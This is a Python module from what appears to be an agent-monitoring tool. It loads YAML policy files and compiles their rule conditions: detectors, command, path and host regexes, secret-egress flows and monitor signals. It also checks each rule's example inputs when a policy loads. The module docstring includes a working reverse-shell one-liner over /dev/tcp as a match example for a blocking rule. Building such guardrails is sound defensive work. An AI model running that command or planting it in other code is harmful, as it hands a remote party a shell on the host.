"""Policy files: rules as data, their conditions, composition, and example checks.

A policy file is YAML::

    name: my-policy
    extends: default            # optional: a built-in name or a path
    settings: {repeat_halt: 3, watch: [/var/log/monitor.log], allow_hosts: [api]}
    allow: [reconnaissance]     # rule ids or families whose matches are only recorded
    rules:
      - id: reverse-shell
        title: Interactive shell wired to a network socket
        when: {detector: reverse_shell}
        action: halt            # allow | log | ask | block | halt
        severity: critical      # info | low | medium | high | critical
        stage: before           # before (the call) | after (its output and monitor signals)
        examples:
          match: ["bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"]
          no_match: ["echo hello"]

``when`` is a mapping; several keys must all hold (AND). Keys:

=================  ==========================================================
``detector``       a detector name or list (any fires) -- see ``hazmat.policy.detectors``
``tool``           tool name or list
``command_regex``  regex searched in the normalized command text (all layers)
``raw_regex``      regex searched in the call's raw text
``path_regex``     regex searched in every path read or written
``read_regex``     ... paths read; ``write_regex``: paths written
``host_regex``     regex over non-local destinations
``flow``           a flow result: ``secret_egress``, ``secret_in_output``, ``secret_in_signal``,
                   ``credential_in_output``
``output_regex``   (after) regex searched in the output
``signal``         (after) mapping matched against each monitor signal (str values are regexes)
``signal_detector``  (after) detector run on each signal's ``cmdline``
``all``/``any``    lists of conditions; ``not``: one condition
=================  ==========================================================

Examples: a string is a bash call; ``{tool, args}`` a call; ``{output, signals, call}``
an observation (``after`` rules); ``{steps: [...]}`` a sequence of those run in one
episode (the rule must fire at some step for ``match``, at none for ``no_match``).
``{{secret}}`` in an example is replaced by the example canary. Every example is
checked when the policy loads; a failing one raises :class:`~hazmat.errors.PolicyError`.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

import yaml
from pydantic import BaseModel, ConfigDict, Field, ValidationError

from hazmat.errors import PolicyError
from hazmat.policy.base import Observation, ToolCall
from hazmat.policy.detectors import DETECTORS, FAMILY, normalize_name
from hazmat.policy.facts import Facts, build_facts

__all__ = [
    "DEFAULT_POLICY_PATH",
    "EXAMPLE_SECRETS",
    "Condition",
    "EvalContext",
    "PolicySpec",
    "Rule",
    "RuleExamples",
    "Settings",
    "compile_condition",
    "load_spec",
]

DEFAULT_POLICY_PATH = Path(__file__).with_name("default.yaml")
EXAMPLE_SECRETS = {"flag": "FLAG{hazmat-example-canary-7f3a91}"}
RuleAction = Literal["allow", "log", "ask", "block", "halt"]
Stage = Literal["before", "after"]
Severity = Literal["info", "low", "medium", "high", "critical"]


class RuleExamples(BaseModel):
    """Inputs the rule must (``match``) and must not (``no_match``) fire on."""

    model_config = ConfigDict(extra="forbid")

    match: list[Any] = Field(default_factory=list)
    no_match: list[Any] = Field(default_factory=list)


class Rule(BaseModel):
    """One rule: when its condition holds at its stage, it contributes its action."""

    model_config = ConfigDict(extra="forbid", frozen=True)

    id: str = Field(pattern=r"^[a-z0-9][a-z0-9._-]*$")
    title: str = ""
    severity: Severity = "medium"
    when: dict[str, Any]
    action: RuleAction
    stage: Stage = "before"
    family: str | None = None
    """Family ids for ``allow`` and repeat counting; defaults to the detector's family."""
    repeat_halt: int | None = None
    """Halt on the N-th block of this rule's family in an episode (0 = never; None = setting)."""
    message: str = ""
    """What the model is told on block (default: the title and evidence)."""
    examples: RuleExamples = Field(default_factory=RuleExamples)


class Settings(BaseModel):
    """Policy-wide knobs."""

    model_config = ConfigDict(extra="forbid")

    repeat_halt: int = 3
    watch: list[str] = Field(default_factory=list)
    allow_hosts: list[str] = Field(default_factory=list)
    workspace: str = "/home/agent"


class PolicySpec(BaseModel):
    """A policy file after ``extends`` was resolved."""

    model_config = ConfigDict(extra="forbid")

    name: str = ""
    extends: str | list[str] | None = None
    settings: Settings = Field(default_factory=Settings)
    allow: list[str] = Field(default_factory=list)
    rules: list[Rule] = Field(default_factory=list)


# ----------------------------------------------------------------------------- conditions


@dataclass(slots=True)
class EvalContext:
    """What a condition sees: the call's facts, detector memo, flow results, observation."""

    facts: Facts
    flow: dict[str, str] = field(default_factory=dict)
    observation: Observation | None = None
    memo: dict[str, str | None] = field(default_factory=dict)

    def detector(self, name: str) -> str | None:
        """Run (once per call) the named detector."""
        if name in self.memo:
            return self.memo[name]
        got = DETECTORS[name](self.facts)
        self.memo[name] = got
        return got


Condition = Callable[[EvalContext], "str | None"]


def _as_list(v: Any) -> list[Any]:
    return v if isinstance(v, list) else [v]


def _regex(v: Any, where: str) -> re.Pattern[str]:
    if not isinstance(v, str):
        raise ValueError(f"{where}: expected a regex string, got {type(v).__name__}")
    try:
        return re.compile(v)
    except re.error as exc:
        raise ValueError(f"{where}: bad regex {v!r}: {exc}") from None


def compile_condition(when: Any, where: str = "when") -> Condition:
    """Turn a ``when`` mapping into a callable returning evidence or ``None``.

    Raises:
        ValueError: unknown key, unknown detector, bad regex.
    """
    if not isinstance(when, dict) or not when:
        raise ValueError(f"{where}: expected a non-empty mapping")
    parts = [_compile_key(k, v, f"{where}.{k}") for k, v in when.items()]
    if len(parts) == 1:
        return parts[0]

    def all_of(ctx: EvalContext) -> str | None:
        ev = []
        for p in parts:
            got = p(ctx)
            if got is None:
                return None
            ev.append(got)
        return "; ".join(ev)

    return all_of


def _compile_key(key: str, v: Any, where: str) -> Condition:
    if key == "detector":
        names = [normalize_name(str(n)) for n in _as_list(v)]
        for n in names:
            if n not in DETECTORS:
                raise ValueError(
                    f"{where}: unknown detector {n!r} (known: {', '.join(sorted(DETECTORS))})"
                )

        def det(ctx: EvalContext) -> str | None:
            for n in names:
                got = ctx.detector(n)
                if got is not None:
                    return f"{n}: {got}"
            return None

        return det
    if key == "tool":
        tools = {str(t).lower() for t in _as_list(v)}
        return lambda ctx: f"tool {ctx.facts.tool}" if ctx.facts.tool.lower() in tools else None
    if key in ("command_regex", "raw_regex", "output_regex"):
        rx = _regex(v, where)

        def text_rx(ctx: EvalContext) -> str | None:
            if key == "command_regex":
                text = ctx.facts.blob
            elif key == "raw_regex":
                text = ctx.facts.raw
            else:
                text = ctx.observation.output if ctx.observation is not None else ""
            m = rx.search(text)
            return f"{key[:-6]} matches {m.group(0)[:80]!r}" if m else None

        return text_rx
    if key in ("path_regex", "read_regex", "write_regex"):
        rx = _regex(v, where)

        def path_rx(ctx: EvalContext) -> str | None:
            f = ctx.facts
            paths = (
                f.reads + f.writes
                if key == "path_regex"
                else f.reads
                if key == "read_regex"
                else f.writes
            )
            for p in paths:
                if rx.search(p):
                    return f"path {p}"
            return None

        return path_rx
    if key == "host_regex":
        rx = _regex(v, where)

        def host_rx(ctx: EvalContext) -> str | None:
            for h in ctx.facts.external_hosts:
                if rx.search(h):
                    return f"host {h}"
            return None

        return host_rx
    if key == "flow":
        names = [str(n) for n in _as_list(v)]
        known = {"secret_egress", "secret_in_output", "secret_in_signal", "credential_in_output"}
        for n in names:
            if n not in known:
                raise ValueError(f"{where}: unknown flow {n!r} (known: {', '.join(sorted(known))})")

        def flow(ctx: EvalContext) -> str | None:
            for n in names:
                if n in ctx.flow:
                    return ctx.flow[n]
            return None

        return flow
    if key == "signal":
        if not isinstance(v, dict):
            raise ValueError(f"{where}: expected a mapping of signal fields")
        matchers = {
            k: (_regex(x, f"{where}.{k}") if isinstance(x, str) else x) for k, x in v.items()
        }

        def sig(ctx: EvalContext) -> str | None:
            if ctx.observation is None:
                return None
            for s in ctx.observation.signals:
                if all(_field_ok(s.get(k), m) for k, m in matchers.items()):
                    return "signal " + ", ".join(f"{k}={s.get(k)}" for k in list(s)[:5])
            return None

        return sig
    if key == "signal_detector":
        names = [normalize_name(str(n)) for n in _as_list(v)]
        for n in names:
            if n not in DETECTORS:
                raise ValueError(f"{where}: unknown detector {n!r}")

        def sig_det(ctx: EvalContext) -> str | None:
            if ctx.observation is None:
                return None
            for s in ctx.observation.signals:
                cmdline = s.get("cmdline")
                if not isinstance(cmdline, str) or not cmdline:
                    continue
                sub = build_facts("bash", {"command": cmdline}, ctx.facts.ctx)
                for n in names:
                    got = DETECTORS[n](sub)
                    if got is not None:
                        return f"process {s.get('pid', '?')} ({cmdline[:60]}): {got}"
            return None

        return sig_det
    if key in ("all", "any"):
        subs = [compile_condition(c, f"{where}[{i}]") for i, c in enumerate(_as_list(v))]
        if key == "all":

            def all_c(ctx: EvalContext) -> str | None:
                ev = []
                for s in subs:
                    got = s(ctx)
                    if got is None:
                        return None
                    ev.append(got)
                return "; ".join(ev)

            return all_c

        def any_c(ctx: EvalContext) -> str | None:
            for s in subs:
                got = s(ctx)
                if got is not None:
                    return got
            return None

        return any_c
    if key == "not":
        sub = compile_condition(v, where)
        return lambda ctx: "not matched" if sub(ctx) is None else None
    raise ValueError(f"{where}: unknown condition key {key!r}")


def _field_ok(value: Any, matcher: Any) -> bool:
    if isinstance(matcher, re.Pattern):
        return value is not None and matcher.search(str(value)) is not None
    if isinstance(matcher, list):
        return value in matcher
    return bool(value == matcher)


def rule_families(rule: Rule) -> set[str]:
    """The families a rule belongs to (its ``family`` or its detectors' families)."""
    if rule.family:
        return {rule.family}
    out: set[str] = set()

    def walk(w: Any) -> None:
        if isinstance(w, dict):
            for k, v in w.items():
                if k in ("detector", "signal_detector"):
                    for n in _as_list(v):
                        fam = FAMILY.get(normalize_name(str(n)))
                        if fam:
                            out.add(fam)
                else:
                    walk(v)
        elif isinstance(w, list):
            for x in w:
                walk(x)

    walk(rule.when)
    return out


# ----------------------------------------------------------------------------- loading


def _read_yaml(path: Path) -> dict[str, Any]:
    try:
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
    except OSError as exc:
        raise PolicyError(f"{path}: cannot read policy: {exc.strerror or exc}") from None
    except yaml.YAMLError as exc:
        mark = getattr(exc, "problem_mark", None)
        line = f":{mark.line + 1}" if mark is not None else ""
        raise PolicyError(f"{path}{line}: not valid YAML: {getattr(exc, 'problem', exc)}") from None
    if data is None:
        data = {}
    if isinstance(data, list):
        data = {"rules": data}
    if not isinstance(data, dict):
        raise PolicyError(f"{path}: a policy must be a mapping or a list of rules")
    return data


def _resolve_ref(ref: str, base_dir: Path | None) -> Path:
    if ref in ("default", "builtin:default"):
        return DEFAULT_POLICY_PATH
    p = Path(ref)
    if not p.is_absolute() and base_dir is not None:
        p = base_dir / p
    if p.suffix not in (".yaml", ".yml") and not p.exists():
        cand = Path(__file__).with_name(f"{ref}.yaml")
        if cand.exists():
            return cand
    return p


def load_spec(
    data: dict[str, Any], *, source: str, base_dir: Path | None, _seen: tuple[str, ...] = ()
) -> PolicySpec:
    """Validate one policy mapping and merge what it extends (later rules override by id).

    Raises:
        PolicyError: invalid structure, unknown parent, ``extends`` cycle (message names the file).
    """
    extends = data.get("extends")
    if extends in ("none", "null", [], ""):
        extends = None
    merged_rules: dict[str, Rule] = {}
    settings: dict[str, Any] = {}
    allow: list[str] = []
    for parent in _as_list(extends) if extends else []:
        ppath = _resolve_ref(str(parent), base_dir)
        key = str(ppath.resolve())
        if key in _seen:
            raise PolicyError(f"{source}: extends cycle through {ppath}")
        try:
            pdata = _read_yaml(ppath)
            pspec = load_spec(pdata, source=str(ppath), base_dir=ppath.parent, _seen=(*_seen, key))
        except PolicyError as exc:
            if exc.message.startswith(source):
                raise
            raise PolicyError(f"{source}: extends {parent}: {exc.message}") from None
        for r in pspec.rules:
            merged_rules[r.id] = r
        settings.update(pspec.settings.model_dump(exclude_unset=True))
        allow.extend(pspec.allow)
    try:
        spec = PolicySpec.model_validate(data)
    except ValidationError as exc:
        err = exc.errors()[0]
        loc = ".".join(str(x) for x in err["loc"])
        rule_hint = ""
        if err["loc"][:1] == ("rules",) and len(err["loc"]) > 1 and isinstance(err["loc"][1], int):
            rules = data.get("rules") or []
            idx = err["loc"][1]
            if isinstance(idx, int) and idx < len(rules) and isinstance(rules[idx], dict):
                rule_hint = f" (rule {rules[idx].get('id', '?')!r})"
        raise PolicyError(f"{source}: {loc}{rule_hint}: {err['msg']}") from None
    for r in spec.rules:
        merged_rules[r.id] = r
    settings.update(spec.settings.model_dump(exclude_unset=True))
    for k in ("watch", "allow_hosts"):
        if k in settings:
            settings[k] = list(dict.fromkeys(settings[k]))
    return PolicySpec(
        name=spec.name or Path(source).stem,
        extends=None,
        settings=Settings.model_validate(settings),
        allow=list(dict.fromkeys(allow + spec.allow)),
        rules=list(merged_rules.values()),
    )


def example_call(ex: Any, secret: str) -> ToolCall | Observation | list[Any]:
    """Turn one YAML example into a call, an observation or a list of steps."""
    if isinstance(ex, str):
        return ToolCall(
            id="example", tool="bash", args={"command": ex.replace("{{secret}}", secret)}
        )
    if isinstance(ex, dict):
        ex = _subst(ex, secret)
        if "steps" in ex:
            return list(ex["steps"])
        if "output" in ex or "signals" in ex:
            call = example_call(ex.get("call", "true"), secret)
            if not isinstance(call, ToolCall):
                raise ValueError("an observation's call must be a call")
            return Observation(
                call=call,
                output=str(ex.get("output", "")),
                signals=list(ex.get("signals", [])),
                exit_code=ex.get("exit_code"),
            )
        if "tool" in ex:
            return ToolCall(id="example", tool=str(ex["tool"]), args=dict(ex.get("args") or {}))
    raise ValueError(f"cannot read example {ex!r}")


def _subst(v: Any, secret: str) -> Any:
    if isinstance(v, str):
        return v.replace("{{secret}}", secret)
    if isinstance(v, list):
        return [_subst(x, secret) for x in v]
    if isinstance(v, dict):
        return {k: _subst(x, secret) for k, x in v.items()}
    return v
